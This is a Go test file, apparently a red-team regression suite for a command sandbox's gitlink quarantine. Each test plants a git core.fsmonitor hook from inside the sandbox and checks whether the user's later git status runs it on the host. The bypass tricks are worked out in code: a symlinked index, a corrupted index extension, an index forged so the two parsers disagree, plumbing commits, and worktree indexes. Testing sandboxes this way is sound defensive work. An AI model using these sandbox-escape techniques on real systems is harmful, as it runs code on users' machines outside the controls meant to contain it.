package sandbox

import (
	"encoding/binary"
	"encoding/hex"
	"os"
	"os/exec"
	"strings"
	"testing"
)

// Red-team round 6: attacks on the gitlink quarantine (gitlinks.go). Each
// test that FAILS demonstrates a bypass: a later `git status` run by the
// user on the host, outside the sandbox, runs a core.fsmonitor the
// sandboxed command planted.

func rt6NeedGit(t *testing.T) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
}

// rt6Escaped runs the user's git commands on the host and reports whether
// the planted fsmonitor ran (it touches w/escaped).
func rt6Escaped(t *testing.T, w string, cmds ...[]string) bool {
	t.Helper()
	os.Remove(w + "/escaped") // a commit inside the sandbox ran it there, harmlessly
	if cmds == nil {
		cmds = [][]string{{"status"}}
	}
	for _, c := range cmds {
		exec.Command("git", append([]string{"-C", w}, c...)...).CombinedOutput()
	}
	_, err := os.Lstat(w + "/escaped")
	return err == nil
}

// plantRepo is the shell snippet that makes sub a repository whose
// core.fsmonitor touches $PWD/escaped.
const plantRepo = `git init -q sub && git -C sub config core.fsmonitor "touch $PWD/escaped" && git -C sub -c user.name=t -c user.email=t@t commit -q --allow-empty -m x`

// A gitlink already in the index whose directory has no .git yet (an
// uninitialized submodule, the most common state after a plain clone; or
// one a previous command registered without a repository) is neither
// protected nor watched: the command creates its .git, the index does not
// change, and nothing is set aside.
func TestRedteam6_GitlinkKnownWithoutDotGit(t *testing.T) {
	t.Parallel()
	rt6NeedGit(t)
	t.Run("uninitialized submodule present before the session", func(t *testing.T) {
		t.Parallel()
		w := tempDir(t)
		gitRepo(t, w)
		os.Mkdir(w+"/sub", 0o755)
		git(t, w, "update-index", "--add", "--cacheinfo", "160000,0123456789012345678901234567890123456789,sub")
		r := newRunner(t, WorkspaceWrite, w, runnerOpts{})
		res := sh(t, r, plantRepo)
		if res.ExitCode != 0 {
			t.Fatalf("setup: %s", res.Output.Text())
		}
		t.Logf("denials: %v", res.Denials)
		if rt6Escaped(t, w) {
			t.Fatal("BYPASS: the user's git status ran the fsmonitor planted in an uninitialized submodule's new .git")
		}
	})
	t.Run("registered without a repository, then the repository made", func(t *testing.T) {
		t.Parallel()
		w := tempDir(t)
		gitRepo(t, w)
		r := newRunner(t, WorkspaceWrite, w, runnerOpts{})
		res := sh(t, r, `mkdir sub && git update-index --add --cacheinfo 160000,0123456789012345678901234567890123456789,sub`)
		if res.ExitCode != 0 {
			t.Fatalf("command 1: %s", res.Output.Text())
		}
		res = sh(t, r, plantRepo)
		if res.ExitCode != 0 {
			t.Fatalf("command 2: %s", res.Output.Text())
		}
		t.Logf("denials: %v", res.Denials)
		if rt6Escaped(t, w) {
			t.Fatal("BYPASS: two commands (gitlink first, repository second) plant an fsmonitor the user's git status runs")
		}
	})
}

// The index as a symbolic link: warden's stamp is the link's, which the
// command need not change, and the parser refuses a link anyway (only a
// warning); git follows it.
func TestRedteam6_IndexThroughSymlink(t *testing.T) {
	t.Parallel()
	rt6NeedGit(t)
	w := tempDir(t)
	gitRepo(t, w)
	writeFile(t, w+"/a.txt", "a\n")
	git(t, w, "add", "a.txt")
	r := newRunner(t, WorkspaceWrite, w, runnerOpts{})
	// Command 1: the index becomes a link to a file in the work tree
	// (still empty of gitlinks): at most a warning.
	res := sh(t, r, `cp .git/index .git/real-index && ln -sf real-index .git/index`)
	if res.ExitCode != 0 {
		t.Fatalf("command 1: %s", res.Output.Text())
	}
	t.Logf("command 1 denials: %v", res.Denials)
	// Command 2: a gitlink written through the link (git add writes
	// index.lock and renames it over the link, so write the real file).
	res = sh(t, r, plantRepo+` && GIT_INDEX_FILE=.git/real-index git add sub`)
	if res.ExitCode != 0 {
		t.Fatalf("command 2: %s", res.Output.Text())
	}
	t.Logf("command 2 denials: %v", res.Denials)
	if rt6Escaped(t, w) {
		t.Fatal("BYPASS: a gitlink written through a symlinked .git/index is not seen; the user's git status ran the planted fsmonitor")
	}
}

// An index git reads but warden's parser refuses: an optional extension
// (upper-case signature, which git skips unread) whose size runs past the
// end. Warden only warns once, and after that says nothing.
func TestRedteam6_IndexWardenCannotParse(t *testing.T) {
	t.Parallel()
	rt6NeedGit(t)
	w := tempDir(t)
	gitRepo(t, w)
	writeFile(t, w+"/a.txt", "a\n")
	git(t, w, "add", "a.txt")
	r := newRunner(t, WorkspaceWrite, w, runnerOpts{})
	// Appends "Zzzz" with size 0xfffffff0 before the trailing checksum
	// (git does not verify the checksum on read).
	const spoil = `python3 - <<'EOF'
b = open('.git/index','rb').read()
b = b[:-20] + b'Zzzz\xff\xff\xff\xf0' + b[-20:]
open('.git/index','wb').write(b)
EOF`
	res := sh(t, r, spoil)
	if res.ExitCode != 0 {
		t.Fatalf("command 1: %s", res.Output.Text())
	}
	t.Logf("command 1 denials: %v", res.Denials)
	res = sh(t, r, plantRepo+` && git add sub && `+spoil)
	if res.ExitCode != 0 {
		t.Fatalf("command 2: %s", res.Output.Text())
	}
	t.Logf("command 2 denials: %v", res.Denials)
	if out, err := exec.Command("git", "-C", w, "ls-files", "-s").CombinedOutput(); err != nil || !strings.Contains(string(out), "160000") {
		t.Fatalf("git does not read the spoiled index: %v %s", err, out)
	}
	if rt6Escaped(t, w) {
		t.Fatal("BYPASS: an index warden cannot parse but git can: the gitlink is not set aside (and the second time not even reported); the user's git status ran the planted fsmonitor")
	}
}

// rt6GitlinkMode is the file mode git records for a gitlink.
const rt6GitlinkMode = 0o160000

// rt6Entry is one version 2 index entry: git takes the name's length from
// the flags (below 0xfff), warden from the first NUL.
func rt6Entry(mode uint32, oid []byte, flagsLen uint16, name []byte) []byte {
	e := make([]byte, 40)
	binary.BigEndian.PutUint32(e[24:], mode)
	e = append(e, oid...)
	e = binary.BigEndian.AppendUint16(e, flagsLen)
	e = append(e, name...)
	for len(e)%8 != 0 {
		e = append(e, 0)
	}
	return e
}

// An index written so that git and warden's parser read different
// entries: the first entry's flags give a name length (9) past the NUL
// that ends it for warden ("a\0" then 7 bytes), so git's second entry, a
// gitlink, starts 8 bytes after where warden looks for it.
func TestRedteam6_IndexNameLengthDesync(t *testing.T) {
	t.Parallel()
	rt6NeedGit(t)
	w := tempDir(t)
	gitRepo(t, w)
	git(t, w, "init", "-q", "sub")
	git(t, w+"/sub", "commit", "-q", "--allow-empty", "-m", "x")
	head := strings.TrimSpace(git(t, w+"/sub", "rev-parse", "HEAD"))
	os.RemoveAll(w + "/sub") // the command makes it
	oid, _ := hex.DecodeString(head)
	blob, _ := hex.DecodeString("e69de29bb2d1d6434b8b29ae775ad8c2e48c5391")
	b := []byte("DIRC")
	b = binary.BigEndian.AppendUint32(b, 2)
	b = binary.BigEndian.AppendUint32(b, 2)
	b = append(b, rt6Entry(0o100644, blob, 9, []byte("a\x00AAAAAAA\x00"))...)
	e2 := rt6Entry(rt6GitlinkMode, oid, 3, []byte("sub\x00"))
	binary.BigEndian.PutUint32(e2[16:], 0o100644) // warden reads the dev field as the mode
	b = append(b, e2...)
	b = append(b, make([]byte, 20)...)
	writeFile(t, w+"/payload.bin", string(b)) // any earlier command can leave this
	r := newRunner(t, WorkspaceWrite, w, runnerOpts{})
	res := sh(t, r, plantRepo+` && cp payload.bin .git/index`)
	if res.ExitCode != 0 {
		t.Fatalf("command: %s", res.Output.Text())
	}
	t.Logf("denials: %v", res.Denials)
	out, _ := exec.Command("git", "-C", w, "ls-files", "-s").CombinedOutput()
	t.Logf("git ls-files -s: %q", out)
	if rt6Escaped(t, w) {
		t.Fatal("BYPASS: git reads a gitlink warden's parser does not see; the user's git status ran the planted fsmonitor")
	}
}

// The gitlink committed into HEAD through plumbing, the index untouched:
// nothing is checked. The user's next `git reset` (or stash, checkout,
// pull's merge) puts it in the index, and then `git status` runs it.
func TestRedteam6_GitlinkCommittedPastTheIndex(t *testing.T) {
	t.Parallel()
	rt6NeedGit(t)
	w := tempDir(t)
	gitRepo(t, w)
	writeFile(t, w+"/a.txt", "a\n")
	git(t, w, "add", "a.txt")
	git(t, w, "commit", "-q", "-m", "first")
	r := newRunner(t, WorkspaceWrite, w, runnerOpts{})
	res := sh(t, r, plantRepo+` &&
export GIT_INDEX_FILE=$TMPDIR/idx && git read-tree HEAD &&
git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub &&
c=$(git -c user.name=t -c user.email=t@t commit-tree -p HEAD -m update $(git write-tree)) && git update-ref HEAD $c`)
	if res.ExitCode != 0 {
		t.Fatalf("command: %s", res.Output.Text())
	}
	t.Logf("denials: %v", res.Denials)
	if rt6Escaped(t, w, []string{"reset", "-q"}, []string{"status"}) {
		t.Fatal("BYPASS: a gitlink committed to HEAD (index untouched) is not set aside; the user's `git reset; git status` ran the planted fsmonitor")
	}
}

// A quarantine name taken in advance, by a link to outside: the rename
// never replaces it, and nothing outside changes.
func TestRedteam6_QuarantineNameTaken(t *testing.T) {
	t.Parallel()
	rt6NeedGit(t)
	w := tempDir(t)
	outside := tempDir(t)
	gitRepo(t, w)
	r := newRunner(t, WorkspaceWrite, w, runnerOpts{})
	res := sh(t, r, plantRepo+` && ln -s `+outside+` sub/.git.warden-quarantine && mkdir sub/.git.warden-quarantine-2 && git add sub`)
	if res.ExitCode != 0 {
		t.Fatalf("command: %s", res.Output.Text())
	}
	if _, err := os.Lstat(w + "/sub/.git"); err == nil {
		t.Error("sub/.git still there")
	}
	if ents, _ := os.ReadDir(outside); len(ents) != 0 {
		t.Errorf("something landed outside: %v", ents)
	}
	if _, err := os.Lstat(w + "/sub/.git.warden-quarantine-3/config"); err != nil {
		t.Errorf("not set aside under the next free name: %v (%v)", err, res.Denials)
	}
	if rt6Escaped(t, w) {
		t.Fatal("the user's git status ran the planted fsmonitor")
	}
}

// A linked worktree inside the workspace has an index of its own
// (.git/worktrees/NAME/index), which is not watched: a gitlink registered
// there is never set aside, and `git status` in the worktree runs it.
func TestRedteam6_WorktreeIndexNotWatched(t *testing.T) {
	t.Parallel()
	rt6NeedGit(t)
	w := tempDir(t)
	gitRepo(t, w)
	git(t, w, "commit", "-q", "--allow-empty", "-m", "first")
	git(t, w, "worktree", "add", "-q", "--detach", w+"/wt")
	r := newRunner(t, WorkspaceWrite, w, runnerOpts{})
	res := sh(t, r, `cd wt && `+plantRepo+` && git add sub`)
	if res.ExitCode != 0 {
		t.Fatalf("command: %s", res.Output.Text())
	}
	t.Logf("denials: %v", res.Denials)
	os.Remove(w + "/wt/escaped")
	exec.Command("git", "-C", w+"/wt", "status").CombinedOutput()
	if _, err := os.Lstat(w + "/wt/escaped"); err == nil {
		t.Fatal("BYPASS: a gitlink added to a linked worktree's index is not set aside; the user's git status in the worktree ran the planted fsmonitor")
	}
}
